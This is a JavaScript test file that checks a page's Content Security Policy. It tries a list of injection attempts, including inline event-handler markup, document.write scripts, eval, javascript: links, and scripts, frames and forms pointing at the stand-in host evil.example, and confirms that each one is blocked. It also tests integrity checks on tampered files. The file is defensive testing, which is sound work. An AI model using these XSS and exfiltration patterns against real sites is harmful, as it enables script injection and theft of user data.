// The content security policy of the page: whatever comes to stand in it by a mistake neither runs nor styles
// anything, nor calls anybody; and what is loaded is what was built.

import assert from "node:assert/strict";
import { appendFileSync, cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { serve } from "../support/browser.mjs";
import { folder, start } from "../support/playground.mjs";

let playground;

before(async () => {
  playground = await start();
});
after(() => playground?.close());

/** What the browser logs of an attack that is stopped. */
const STOPPED = /Content Security Policy|Trusted|violates|integrity/i;

/** Each attack, and the directives of which one stops it. What is called by the test itself may evaluate text, and so
    waits until the test has returned. */
const ATTACKS = {
  "markup": [() => (document.body.innerHTML += "<img src=x onerror='window.hacked = 1'>"), "require-trusted-types-for"],
  "markup beside an element": [() => document.body.insertAdjacentHTML("beforeend", "<b onclick='window.hacked = 1'>x</b>"), "require-trusted-types-for"],
  "a whole document": [() => document.write("<script>window.hacked = 1</script>"), "require-trusted-types-for"],
  "the text of a script": [() => (document.head.appendChild(document.createElement("script")).textContent = "window.hacked = 1"), "require-trusted-types-for"],
  "a node in a script": [
    () => {
      const script = document.createElement("script");
      script.append("window.hacked = 1");
      document.head.append(script);
    },
    "require-trusted-types-for",
    "script-src-elem",
  ],
  "the address of a script": [() => (document.head.appendChild(document.createElement("script")).src = "https://evil.example/x.js"), "require-trusted-types-for"],
  "an import from elsewhere": [() => import("https://evil.example/x.js"), "script-src-elem"],
  "an import of data": [() => import("data:text/javascript,window.hacked=1"), "script-src-elem"],
  "an attribute that handles an event": [() => document.body.setAttribute("onclick", "window.hacked = 1"), "require-trusted-types-for", "script-src-attr"],
  "eval": [() => setTimeout(() => globalThis.eval("window.hacked = 1")), "require-trusted-types-for", "script-src"],
  "a function of text": [() => setTimeout(() => new Function("window.hacked = 1")()), "require-trusted-types-for", "script-src"],
  "a timer of text": [() => setTimeout(() => setTimeout("window.hacked = 1")), "require-trusted-types-for", "script-src"],
  "a link that is a script": [
    () => {
      const link = document.body.appendChild(document.createElement("a"));
      link.href = "javascript:window.hacked = 1";
      link.click();
    },
    "require-trusted-types-for",
    "script-src-elem",
  ],
  "a worker from text": [() => new Worker("data:text/javascript,0"), "require-trusted-types-for"],
  "a policy of one's own": [() => trustedTypes.createPolicy("mine", { createHTML: (text) => text }), "trusted-types"],
  "the text of a style": [() => (document.head.appendChild(document.createElement("style")).textContent = "body { display: none }"), "style-src-elem"],
  "a sheet from elsewhere": [() => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" })), "style-src-elem"],
  "a picture from elsewhere": [() => document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" })), "img-src"],
  "a frame": [() => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })), "frame-src"],
  "an object": [() => document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example/" })), "object-src", "require-trusted-types-for"],
  "another base of addresses": [() => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })), "base-uri"],
  "a form that is sent elsewhere": [
    () => {
      const form = document.body.appendChild(document.createElement("form"));
      form.action = "https://evil.example/";
      form.submit();
    },
    "form-action",
  ],
};

/** The page's policy on a page of its own, which loads nothing, so that nothing but the attack can violate it. */
const POLICY = readFileSync(join(folder, "index.html"), "utf8").match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/)[0];

test("the policy stops every attack", async (test) => {
  const home = mkdtempSync(join(tmpdir(), "policy-"));
  writeFileSync(join(home, "index.html"), `<!doctype html><meta charset="utf-8">${POLICY}<body>`);
  const server = await serve(home);
  const page = await playground.open(test, {
    logs: STOPPED,
    thrown: STOPPED,
    // The browser tells of requests that the policy stops, as of any.
    asks: [server.url, "https://evil.example/"],
    equip: false,
  });
  for (const [name, [act, ...directives]] of Object.entries(ATTACKS)) {
    await page.goto(server.url);
    await page.evaluate(() => {
      window.violated = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.violated.push(effectiveDirective));
    });
    // Some attacks throw and some do not: what counts is that they are stopped, which is told.
    await page.evaluate(act).catch(() => {});
    await page.waitForFunction(() => window.violated.length > 0).catch(() => assert.fail(`nothing stops ${name}`));
    const [violated] = await page.evaluate(() => window.violated);
    assert.ok(directives.includes(violated), `${name}: ${violated}`);
    assert.equal(await page.evaluate(() => window.hacked), undefined, name);
  }
  await page.goto("about:blank");
  await server.close();
  rmSync(home, { recursive: true });
});

test("the page itself has taken the only policy of Trusted Types that there may be", async (test) => {
  const page = await playground.open(test, { logs: STOPPED, equip: false });
  const made = await page.evaluate(() => {
    try {
      return trustedTypes.createPolicy("own-scripts", { createScriptURL: (text) => text }).name;
    } catch (error) {
      return error.name;
    }
  });
  assert.equal(made, "TypeError");
  assert.doesNotMatch(POLICY.replace("style-src-attr 'unsafe-inline'", ""), /unsafe-inline|[^-]unsafe-eval|unsafe-hashes|strict-dynamic|\*/);
});

test("a file that was changed on its way is not taken", async (test) => {
  // What is loaded at once; what comes later stands in the import map alone.
  const html = readFileSync(join(folder, "index.html"), "utf8").replace(/<script type="importmap">.*?<\/script>/, "");
  const files = readdirSync(folder, { recursive: true }).filter((name) => /\.(?:js|wasm)$/.test(name) && html.includes(name));
  assert.ok(files.length >= 5, files.join(", "));
  const page = await playground.open(test, { logs: /./, thrown: /./, asks: ["http://127.0.0.1"], equip: false });
  for (const file of files) {
    const changed = mkdtempSync(join(tmpdir(), "changed-"));
    cpSync(folder, changed, { recursive: true });
    appendFileSync(join(changed, file), file.endsWith(".wasm") ? "\0" : "//");
    const server = await serve(changed);
    const told = page.waitForEvent("console", (message) => /integrity/i.test(message.text()));
    await page.goto(server.url);
    await told;
    await page.goto("about:blank");
    await server.close();
    rmSync(changed, { recursive: true });
  }
});
